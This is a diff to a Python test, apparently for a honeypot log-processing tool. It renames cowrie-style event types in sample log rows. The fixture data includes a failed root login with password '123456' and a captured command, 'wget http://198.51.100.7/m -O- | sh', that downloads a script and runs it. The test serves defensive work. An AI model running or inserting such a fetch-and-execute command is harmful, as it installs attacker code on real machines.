@@ -39,7 +39,7 @@ def test_cycle_on_sqlite(broker: Broker, sqlite_url: str) -> None:
             log_row(
                 "rustbucket-a",
                 at,
-                "cowrie.login.failed",
+                "login_failed",
                 source_ip="198.51.100.1",
                 username="root",
                 password="123456",
@@ -47,7 +47,7 @@ def test_cycle_on_sqlite(broker: Broker, sqlite_url: str) -> None:
             log_row(
                 "rustbucket-a",
                 at,
-                "cowrie.command.input",
+                "command",
                 source_ip="198.51.100.1",
                 command="wget http://198.51.100.7/m -O- | sh",
             ),
